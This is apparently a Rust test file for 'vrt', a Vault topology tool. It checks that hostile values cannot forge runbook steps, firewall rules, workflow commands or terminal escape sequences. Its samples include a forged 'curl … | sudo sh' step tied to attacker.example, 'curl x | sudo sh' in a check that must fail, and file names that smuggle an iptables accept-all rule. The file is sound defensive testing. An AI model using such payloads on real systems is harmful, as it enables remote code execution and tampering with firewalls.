//! No value of a topology file can change the structure of what vrt prints, nor reach a
//! terminal as a control sequence (issue 12, "Injection"). A reproduction of the reported
//! attack first, then a property test: hostile strings placed in every string field of every
//! example, every command in every format, each output checked with its format's parser and,
//! where the file is otherwise judged the same, compared with the output for a benign value.

mod common;

use std::process::Command;

use common::{examples, run, tool_available};
use proptest::prelude::*;
// The checks and the in-process renderer run of the `render` fuzz target, shared so that
// both assert the same invariants.
#[path = "../fuzz/src/checks.rs"]
mod checks;
#[path = "../fuzz/src/render.rs"]
mod render;

use checks::{csv_records, markdown_shape, markdown_skeleton, shape_of_json, statements};

/// The file of the security review: a cluster version that ends the "What is lost" table,
/// writes its own "Steps" section with a `curl … | sudo sh`, and opens an HTML comment that
/// hides the real steps.
const FORGED: &str = "tests/fixtures/hostile_outputs/forged-steps.yaml";

#[test]
fn a_version_cannot_forge_runbook_steps() {
    let (code, out, _) = run(&["validate", FORGED, "--format", "json"]);
    assert_eq!(code, 1, "the forged version is an error:\n{out}");
    let json: serde_json::Value = serde_json::from_str(&out).expect("JSON");
    let findings = json["findings"].as_array().expect("findings");
    assert!(
        findings.iter().any(|f| f["line"] == 35
            && f["message"]
                .as_str()
                .unwrap_or("")
                .contains("is not a Vault version")),
        "the error points at the version (line 35):\n{out}"
    );
    let (code, md, err) = run(&["failover", FORGED, "--lose", "dc-a", "--format", "markdown"]);
    assert_eq!(code, 1, "no runbook for a file with errors:\n{md}{err}");
    assert!(!md.contains("attacker.example"), "{md}");
    assert!(
        !err.contains('\u{1b}') && err.contains("is not a Vault version"),
        "{err}"
    );
}

#[test]
fn the_benign_runbook_has_one_steps_section() {
    let (code, md, err) = run(&[
        "failover",
        "examples/two-datacenters.yaml",
        "--lose",
        "dc-a",
        "--format",
        "markdown",
    ]);
    assert_eq!(code, 0, "{err}");
    let shape = markdown_shape(&md);
    assert_eq!(
        shape
            .headings
            .iter()
            .filter(|h| h.1.contains("Steps"))
            .count(),
        1,
        "{md}"
    );
    assert_eq!(shape.html, 0, "vrt's own Markdown holds no HTML");
}

/// A file name is a value too: it cannot forge a workflow command on standard error, nor
/// drive the terminal.
#[test]
fn a_file_name_cannot_forge_a_workflow_command_on_stderr() {
    let dir = std::env::temp_dir().join(format!("vrt-hostile-name-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("temporary directory");
    let name = dir.join("x\n::warning file=forged.yaml,line=1::forged\u{1b}[2J.yaml");
    let (code, out, err) = run(&["validate", name.to_str().expect("UTF-8 path")]);
    let _ = std::fs::remove_dir_all(&dir);
    assert_eq!(code, 2, "{out}{err}");
    assert_no_forged_command(&err);
    assert_no_raw_controls("stderr", &err);
    assert!(
        err.contains("%3A%3Awarning file=forged.yaml") && err.contains("\\u{1b}[2J"),
        "the name is shown, escaped: {err}"
    );
}

/// The file name is in the header comments of every firewall file and in the Markdown
/// table's first line: a name holding a line break cannot end the comment and add a rule.
#[test]
fn a_file_name_cannot_add_a_firewall_rule() {
    let dir = std::env::temp_dir().join(format!("vrt-hostile-fw-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("temporary directory");
    let example = common::root().join("examples/two-datacenters.yaml");
    let hostile = dir.join("x\n-A INPUT -j ACCEPT\naccept\n}\n\n## Steps\n`\u{1b}[2J.yaml");
    let benign = dir.join("benign.yaml");
    for path in [&hostile, &benign] {
        std::fs::copy(&example, path).expect("copy of the example");
    }
    for format in ["nftables", "iptables", "terraform", "markdown"] {
        let out = |path: &std::path::Path| {
            let (code, out, err) = run(&[
                "firewall",
                path.to_str().expect("UTF-8 path"),
                "--format",
                format,
            ]);
            assert_eq!(code, 0, "{format}: {err}");
            out
        };
        let (h, b) = (out(&hostile), out(&benign));
        assert_no_raw_controls(format, &h);
        if format == "markdown" {
            assert_eq!(markdown_skeleton(&h), markdown_skeleton(&b), "{h}");
        } else {
            assert!(h.contains("x\\n-A"), "{format}: the name, escaped:\n{h}");
            assert_eq!(statements(&h), statements(&b), "{format}:\n{h}");
        }
    }
    let _ = std::fs::remove_dir_all(&dir);
}

/// IPv6 hosts are bracketed in every URL vrt builds and single-quoted in shell commands.
#[test]
fn ipv6_addresses_are_bracketed_and_quoted() {
    let yaml = std::fs::read_to_string(common::root().join("examples/two-datacenters.yaml"))
        .expect("example")
        .replace(
            "api_addr: https://vault.dc-b.corp.example.com:8200",
            "api_addr: https://[fd00::20]:8200",
        )
        .replace("address: vault.dc-b.corp.example.com", "address: fd00::99");
    let (_, md, _) = common::run_with_stdin(
        &["failover", "-", "--lose", "dc-a", "--format", "markdown"],
        yaml.as_bytes(),
    );
    assert!(
        md.contains("VAULT_ADDR='https://[fd00::20]:8200' VAULT_NAMESPACE='' vault"),
        "{md}"
    );
    assert!(
        md.contains("primary_cluster_addr='https://[fd00::99]:8201'"),
        "{md}"
    );
    assert!(!md.contains("https://fd00::"), "{md}");
    for block in markdown_shape(&md).code {
        if block.0 == "sh" {
            bash_n(&block.1);
        }
    }
}

/// Pieces of hostile strings: [`render::ATOMS`] (line breaks, Markdown fences and HTML,
/// table and label delimiters, Mermaid directives, quotes, HCL templates, escape sequences,
/// bidi overrides, zero-width characters, workflow commands, shell syntax, formulas).
const ATOMS: &[&str] = render::ATOMS;

/// How a case places its payload in the chosen string: appended (names stop being names,
/// which still tests how errors quote them), or, for an address, as a path after the port
/// (which the format accepts).
#[derive(Clone, Copy, Debug)]
enum Place {
    Append,
    UrlPath,
}

fn payload() -> impl Strategy<Value = String> {
    prop::collection::vec(prop::sample::select(ATOMS), 1..4).prop_map(|v| v.concat())
}

/// Every string leaf of a YAML tree, as paths of keys and indices.
fn string_paths(v: &serde_json::Value, path: &mut Vec<String>, out: &mut Vec<Vec<String>>) {
    match v {
        serde_json::Value::String(_) => out.push(path.clone()),
        serde_json::Value::Array(a) => {
            for (i, x) in a.iter().enumerate() {
                path.push(i.to_string());
                string_paths(x, path, out);
                path.pop();
            }
        }
        serde_json::Value::Object(o) => {
            for (k, x) in o {
                path.push(k.clone());
                string_paths(x, path, out);
                path.pop();
            }
        }
        _ => {}
    }
}

fn leaf<'a>(v: &'a mut serde_json::Value, path: &[String]) -> &'a mut serde_json::Value {
    path.iter().fold(v, |v, k| match v {
        serde_json::Value::Array(a) => &mut a[k.parse::<usize>().expect("index")],
        other => &mut other[k.as_str()],
    })
}

/// One example with `payload` placed in its `pick`-th string field (modulo their number):
/// the hostile file and the same file with a benign word instead, both as JSON (which is
/// YAML), and a cluster name of the example for `failover --lose`.
fn variants(example: &str, pick: usize, payload: &str, place: Place) -> (String, String, String) {
    let text = std::fs::read_to_string(common::root().join(example)).expect("example");
    let tree: serde_json::Value = serde_saphyr::from_str(&text).expect("examples are YAML");
    let mut paths = Vec::new();
    string_paths(&tree, &mut Vec::new(), &mut paths);
    let path = &paths[pick % paths.len()];
    let lose = tree["clusters"][0]["name"]
        .as_str()
        .expect("a cluster")
        .to_string();
    let with = |p: &str| {
        let mut t = tree.clone();
        let v = leaf(&mut t, path);
        let old = v.as_str().expect("a string").to_string();
        *v = serde_json::Value::String(match place {
            Place::UrlPath if old.contains("://") => format!("{old}/{p}"),
            _ => format!("{old}{p}"),
        });
        serde_json::to_string_pretty(&t).expect("JSON")
    };
    (with(payload), with("zq"), lose)
}

/// Runs `vrt ARGS -` with `yaml` on standard input.
fn run_on(yaml: &str, args: &[&str]) -> (i32, String, String) {
    let mut args = args.to_vec();
    args.push("-");
    common::run_with_stdin(&args, yaml.as_bytes())
}

/// The findings of a file as (code, line), and the exit code: two files with the same are
/// judged the same, so their outputs must have the same structure.
fn judgement(yaml: &str) -> (i32, Vec<(String, u64)>) {
    let (code, out, _) = run_on(yaml, &["validate", "--format", "json"]);
    let json: serde_json::Value = serde_json::from_str(&out).expect("validate's JSON parses");
    let mut found: Vec<(String, u64)> = json["findings"]
        .as_array()
        .map(|a| {
            a.iter()
                .map(|f| {
                    (
                        f["code"].as_str().unwrap_or("").to_string(),
                        f["line"].as_u64().unwrap_or(0),
                    )
                })
                .collect()
        })
        .unwrap_or_default();
    found.sort();
    (code, found)
}

fn assert_no_raw_controls(what: &str, text: &str) {
    if let Some(c) = text
        .chars()
        .find(|c| vrt::report::escape::is_hidden(*c) && !matches!(c, '\n' | '\t'))
    {
        panic!("{what} carries a raw {c:?}:\n{text}");
    }
}

fn assert_no_forged_command(text: &str) {
    for line in text.lines() {
        assert!(
            !line.trim_start().starts_with("::"),
            "a workflow command: {line}\n{text}"
        );
    }
}

fn bash_n(script: &str) {
    let out = common::piped(Command::new("bash").arg("-n"), script.as_bytes());
    assert!(
        out.status.success(),
        "bash -n rejects:\n{script}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

fn tool_accepts(tool: &str, args: &[&str], input: &str) {
    let out = common::piped(Command::new(tool).args(args), input.as_bytes());
    assert!(
        out.status.success(),
        "{tool} rejects:\n{input}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// The structure of one output in its format, checked with the format's parser; what must
/// not differ from the output for a benign value.
fn structure(format: &str, out: &str) -> String {
    match format {
        "json" | "sarif" | "aws-sg" | "azure-nsg" => {
            let v: serde_json::Value = serde_json::from_str(out)
                .unwrap_or_else(|e| panic!("{format} output is not JSON ({e}):\n{out}"));
            shape_of_json(&v)
        }
        "markdown" => {
            let shape = markdown_shape(out);
            for (lang, text) in &shape.code {
                if lang == "sh" {
                    bash_n(text);
                }
            }
            format!("{:?}", markdown_skeleton(out))
        }
        "csv" => format!("{:?}", csv_records(out)),
        "dot" => {
            if tool_available("dot") {
                tool_accepts("dot", &["-Tcanon"], out);
            }
            format!("{:?}", statements(out))
        }
        "mermaid" | "nftables" | "iptables" | "ip6tables" => format!("{:?}", statements(out)),
        "terraform" => {
            let body: hcl::Body = hcl::from_str(out)
                .unwrap_or_else(|e| panic!("terraform output is not HCL ({e}):\n{out}"));
            format!("{}", body.blocks().count())
        }
        "junit" => {
            if tool_available("xmllint") {
                tool_accepts("xmllint", &["--noout", "-"], out);
            }
            format!("{}", out.matches('<').count())
        }
        "github" => {
            let lines: Vec<&str> = out.lines().collect();
            if let Some((summary, commands)) = lines.split_last() {
                assert!(!summary.starts_with("::"), "{out}");
                for l in commands {
                    assert!(
                        ["::error ", "::warning ", "::notice "]
                            .iter()
                            .any(|p| l.starts_with(p)),
                        "not one workflow command per line:\n{out}"
                    );
                }
            }
            format!("{}", lines.len())
        }
        // Terminal text: only the raw-control check (values change the wrapping).
        _ => String::new(),
    }
}

/// Runs `args` in every format on the hostile and benign files and checks each output.
fn check(example: &str, pick: usize, payload: &str, place: Place, args: &[&str], formats: &[&str]) {
    let (hostile, benign, lose) = variants(example, pick, payload, place);
    let same = judgement(&hostile) == judgement(&benign);
    for format in formats {
        let mut command: Vec<&str> = args
            .iter()
            .map(|a| if *a == "LOSE" { lose.as_str() } else { a })
            .collect();
        command.extend(["--format", format]);
        let (code, out, err) = run_on(&hostile, &command);
        let what = format!(
            "`vrt {}` on {example} field #{pick} with {payload:?}",
            command.join(" ")
        );
        assert!(code == 0 || code == 1, "{what}: exit {code}\n{err}");
        assert_no_forged_command(&err);
        assert_no_raw_controls(&format!("stderr of {what}"), &err);
        if !["json", "sarif", "aws-sg", "azure-nsg"].contains(format) {
            assert_no_raw_controls(&format!("stdout of {what}"), &out);
        }
        if code != 0 && out.is_empty() {
            continue;
        }
        let shape = structure(format, &out);
        if same {
            let (bcode, bout, _) = run_on(&benign, &command);
            assert_eq!(code, bcode, "{what}: the exit code depends on the value");
            assert_eq!(
                shape,
                structure(format, &bout),
                "{what}: the structure depends on the value\n--- hostile\n{out}\n--- benign\n{bout}"
            );
        }
    }
}

fn example() -> impl Strategy<Value = String> {
    prop::sample::select(examples())
}

fn place() -> impl Strategy<Value = Place> {
    prop_oneof![Just(Place::Append), Just(Place::UrlPath)]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 32, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn validate_outputs_keep_their_structure(ex in example(), pick in 0usize..10_000, p in payload(), at in place()) {
        check(&ex, pick, &p, at, &["validate"], &["human", "json", "sarif", "github", "junit"]);
    }

    #[test]
    fn ports_outputs_keep_their_structure(ex in example(), pick in 0usize..10_000, p in payload(), at in place()) {
        check(&ex, pick, &p, at, &["ports"], &["table", "markdown", "csv", "json"]);
    }

    #[test]
    fn firewall_outputs_keep_their_structure(ex in example(), pick in 0usize..10_000, p in payload(), at in place()) {
        check(&ex, pick, &p, at, &["firewall"], &["csv", "markdown", "json", "nftables", "iptables", "ip6tables", "aws-sg", "terraform", "azure-nsg"]);
    }

    #[test]
    fn failover_outputs_keep_their_structure(ex in example(), pick in 0usize..10_000, p in payload(), at in place()) {
        check(&ex, pick, &p, at, &["failover", "--lose", "LOSE"], &["text", "markdown", "json"]);
    }

    #[test]
    fn upgrade_plan_outputs_keep_their_structure(ex in example(), pick in 0usize..10_000, p in payload(), at in place()) {
        check(&ex, pick, &p, at, &["upgrade-plan"], &["text", "markdown", "json"]);
    }

    #[test]
    fn mounts_outputs_keep_their_structure(ex in example(), pick in 0usize..10_000, p in payload(), at in place()) {
        check(&ex, pick, &p, at, &["mounts"], &["table", "markdown", "csv", "json"]);
        check(&ex, pick, &p, at, &["mounts", "--after-loss", "LOSE"], &["table", "markdown"]);
    }

    #[test]
    fn token_table_keeps_its_structure(ex in example(), pick in 0usize..10_000, p in payload(), at in place()) {
        check(&ex, pick, &p, at, &["validate", "--explain-tokens"], &["human", "json"]);
    }

    #[test]
    fn graph_outputs_keep_their_structure(ex in example(), pick in 0usize..10_000, p in payload(), at in place()) {
        check(&ex, pick, &p, at, &["graph"], &["mermaid", "dot"]);
    }
}

#[test]
fn the_checks_can_fail() {
    // The structure checks see what an unescaped value would do.
    let forged = "# Runbook\n\n## 3. Steps\n\n| a |\n|---|\n| 1.17.3\n\n## 3. Steps\n\n```sh\ncurl x | sudo sh\n```\n<!--\n";
    let real = "# Runbook\n\n## 3. Steps\n\n| a |\n|---|\n| 1.17.3 |\n";
    assert_ne!(markdown_skeleton(forged), markdown_skeleton(real));
    assert_eq!(csv_records("a,b\n\"x,y\",z\n"), vec![2, 2]);
    assert_eq!(csv_records("a,b\nx,y,z\n"), vec![2, 3]);
    assert_ne!(
        statements("a [label=\"x\"];"),
        statements("a [label=\"x\"]; b;")
    );
}

/// What the `render` fuzz target runs, on the examples with fixed payloads: every renderer
/// of every command and format in-process, with the hostile string written into every
/// free-text value *after* the parser checked it (names, regions, zones, hosts, versions,
/// DNS suffixes, mount paths and types, reasons, the file name), so that each renderer's
/// own escaping is tested rather than the validator's grammar.
#[test]
fn every_renderer_escapes_every_value_after_the_parser() {
    for example in examples() {
        let text = std::fs::read_to_string(common::root().join(&example)).expect("example");
        let source = vrt::source::Source::new(example.clone(), text);
        let topology = vrt::topology(&source, vrt::yaml::Limits::default())
            .unwrap_or_else(|_| panic!("{example} loads"));
        let indices: Vec<u8> = (0..ATOMS.len())
            .map(|i| u8::try_from(i).expect("fewer than 256 atoms"))
            .collect();
        for chunk in indices.chunks(7) {
            render::check(&source, &topology, &render::payload(chunk, ""));
        }
    }
}

#[test]
fn the_in_process_checks_can_fail() {
    use checks::{Kind, invariants};
    let fails = |kind: Kind, text: &str| {
        std::panic::catch_unwind(|| invariants("test", kind, text)).is_err()
    };
    assert!(fails(Kind::Text, "a\u{1b}[31mb"));
    assert!(fails(Kind::Markdown, "a <b>x</b>\n\n<!-- hidden -->\n"));
    assert!(!fails(Kind::Markdown, "| a<br>b |\n|---|\n"));
    assert!(fails(Kind::Csv, "a,b\nc\n"));
    assert!(fails(Kind::Json, "{\"a\": 1"));
    assert!(fails(Kind::Github, "::error ::x\nforged\nsummary\n"));
    assert!(fails(Kind::Terraform, "description = \"${var.x}\"\n"));
    assert!(!fails(
        Kind::Terraform,
        "description = \"$${var.x} %%{if}\"\n"
    ));
    assert_ne!(
        checks::structure(Kind::Statements, "comment \"x\"\n"),
        checks::structure(Kind::Statements, "comment \"x\"\naccept\n")
    );
}
